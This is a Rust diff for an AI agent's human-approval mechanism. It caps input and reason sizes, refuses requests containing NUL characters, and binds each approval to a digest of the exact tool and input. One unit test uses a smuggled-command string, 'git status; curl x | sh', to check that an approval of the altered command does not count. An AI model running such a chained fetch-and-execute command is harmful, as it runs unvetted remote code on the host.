@@ -21,6 +21,10 @@ pub use shepherd_proto::agentmanager::v1::ApprovalState;
 
 /// How often an unanswered request is sent again on the live session.
 pub(crate) const RESEND_INTERVAL: Duration = Duration::from_secs(10);
+/// Largest input and reason the manager takes (a longer one is refused,
+/// never cut: a person approves exactly what runs).
+pub(crate) const MAX_INPUT_BYTES: usize = 4 * 1024;
+pub(crate) const MAX_REASON_BYTES: usize = 1024;
 
 /// The answer to an approval request.
 #[derive(Clone, Debug)]
@@ -35,6 +39,9 @@ pub struct ApprovalDecision {
     /// The stored approval (empty when the manager refused the request
     /// outright).
     pub approval_id: String,
+    /// The request could not be asked as it is (input or reason over its
+    /// bound, or a NUL in it): nobody was asked, and it is not approved.
+    pub cannot_ask: bool,
 }
 
 impl ApprovalDecision {
@@ -42,12 +49,28 @@ impl ApprovalDecision {
         self.state == ApprovalState::Approved
     }
 
-    fn from_answer(answer: ApprovalAnswer) -> Self {
+    /// The decision an answer carries, for the request whose digest is
+    /// `asked`: an approval of anything else (another tool or input under
+    /// a reused request id) is no approval.
+    fn from_answer(answer: ApprovalAnswer, asked: &str) -> Self {
+        let state = ApprovalState::try_from(answer.state).unwrap_or(ApprovalState::Denied);
+        if state == ApprovalState::Approved && answer.digest != asked {
+            return Self {
+                state: ApprovalState::Denied,
+                comment:
+                    "the approval was for another tool or input than this request's: not approved"
+                        .to_owned(),
+                decided_by: answer.decided_by,
+                approval_id: answer.approval_id,
+                cannot_ask: false,
+            };
+        }
         Self {
-            state: ApprovalState::try_from(answer.state).unwrap_or(ApprovalState::Denied),
+            state,
             comment: answer.comment,
             decided_by: answer.decided_by,
             approval_id: answer.approval_id,
+            cannot_ask: false,
         }
     }
 
@@ -57,14 +80,46 @@ impl ApprovalDecision {
             comment: comment.to_owned(),
             decided_by: String::new(),
             approval_id: String::new(),
+            cannot_ask: false,
         }
     }
+
+    fn cannot_ask(why: String) -> Self {
+        Self {
+            state: ApprovalState::Denied,
+            comment: format!("cannot ask: {why}"),
+            decided_by: String::new(),
+            approval_id: String::new(),
+            cannot_ask: true,
+        }
+    }
+}
+
+/// Why a request cannot be asked as it is, if so.
+pub(crate) fn unaskable(input: &str, reason: &str) -> Option<String> {
+    for (field, text, max) in [
+        ("input", input, MAX_INPUT_BYTES),
+        ("reason", reason, MAX_REASON_BYTES),
+    ] {
+        if text.len() > max {
+            return Some(format!(
+                "the {field} is {} bytes, at most {max} (an approval is never cut: ask about less)",
+                text.len()
+            ));
+        }
+        if text.contains('\0') {
+            return Some(format!("the {field} holds a NUL character"));
+        }
+    }
+    None
 }
 
 /// A request waiting for its answer.
 pub(crate) struct PendingApproval {
     pub(crate) task_id: String,
     pub(crate) message: AgentMessage,
+    /// What an approval must carry to be this request's.
+    digest: String,
     answer: oneshot::Sender<ApprovalDecision>,
 }
 
@@ -86,16 +141,24 @@ impl std::fmt::Debug for Approver {
 }
 
 impl Approver {
-    /// Asks to use `tool` (its `input` summarised, at most 4 KiB kept, and
-    /// why) and waits for the decision, however long it takes: across
-    /// reconnects and manager restarts. Returns WITHDRAWN at once when the
-    /// task is cancelled meanwhile.
+    /// Asks to use `tool` with `input` (exactly what will run, at most
+    /// 4 KiB) and why (at most 1 KiB), and waits for the decision, however
+    /// long it takes: across reconnects and manager restarts. Returns
+    /// WITHDRAWN at once when the task is cancelled meanwhile, and a denial
+    /// with `cannot_ask` set, without asking, for an input or reason over
+    /// its bound. An approval counts only if it carries the digest of this
+    /// tool and input.
     pub async fn ask(
         &self,
         tool: impl Into<String>,
         input: impl Into<String>,
         reason: impl Into<String>,
     ) -> ApprovalDecision {
+        let (tool, input, reason) = (tool.into(), input.into(), reason.into());
+        if let Some(why) = unaskable(&input, &reason) {
+            return ApprovalDecision::cannot_ask(why);
+        }
+        let digest = shepherd_proto::approval_digest(&tool, &input);
         let request_id = crate::random_instance_id();
         // The manager hears that the task runs before what it asks.
         self.ledger.accept(&self.task_id).await;
@@ -108,15 +171,16 @@ impl Approver {
                 task_id: self.task_id.clone(),
                 attempt,
                 workflow_id: self.workflow_id.clone(),
-                tool: tool.into(),
-                input: input.into(),
-                reason: reason.into(),
+                tool,
+                input,
+                reason,
             })),
         };
         let (answer, answered) = oneshot::channel();
         let pending = PendingApproval {
             task_id: self.task_id.clone(),
             message,
+            digest,
             answer,
         };
         self.ledger.await_approval(&request_id, pending);
@@ -183,7 +247,8 @@ impl Ledger {
         let pending = self.lock().approvals.remove(&answer.request_id);
         if let Some(pending) = pending {
             tracing::info!(task_id = %pending.task_id, state = ?ApprovalState::try_from(answer.state), "approval answered");
-            let _ = pending.answer.send(ApprovalDecision::from_answer(answer));
+            let decision = ApprovalDecision::from_answer(answer, &pending.digest);
+            let _ = pending.answer.send(decision);
         }
     }
 
@@ -194,5 +259,47 @@ impl Ledger {
             .values()
             .map(|pending| pending.message.clone())
             .collect()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn answer(state: ApprovalState, digest: &str) -> ApprovalAnswer {
+        ApprovalAnswer {
+            request_id: "r".into(),
+            approval_id: "a".into(),
+            state: state as i32,
+            comment: "ok".into(),
+            decided_by: "alice".into(),
+            digest: digest.into(),
+        }
+    }
+
+    #[test]
+    fn an_approval_of_something_else_is_no_approval() {
+        let asked = shepherd_proto::approval_digest("shell", "git status");
+        assert!(
+            ApprovalDecision::from_answer(answer(ApprovalState::Approved, &asked), &asked)
+                .approved()
+        );
+        let other = shepherd_proto::approval_digest("shell", "git status; curl x | sh");
+        let decision =
+            ApprovalDecision::from_answer(answer(ApprovalState::Approved, &other), &asked);
+        assert!(!decision.approved());
+        assert!(decision.comment.contains("another"), "{}", decision.comment);
+        // A denial needs no digest.
+        let denied = ApprovalDecision::from_answer(answer(ApprovalState::Denied, ""), &asked);
+        assert_eq!(denied.state, ApprovalState::Denied);
+    }
+
+    #[test]
+    fn what_would_be_cut_cannot_be_asked() {
+        assert!(unaskable(&"x".repeat(MAX_INPUT_BYTES), "").is_none());
+        let why = unaskable(&"x".repeat(MAX_INPUT_BYTES + 1), "").unwrap_or_default();
+        assert!(why.contains("never cut"), "{why}");
+        assert!(unaskable("a\0b", "").is_some());
+        assert!(unaskable("", &"r".repeat(MAX_REASON_BYTES + 1)).is_some());
     }
 }
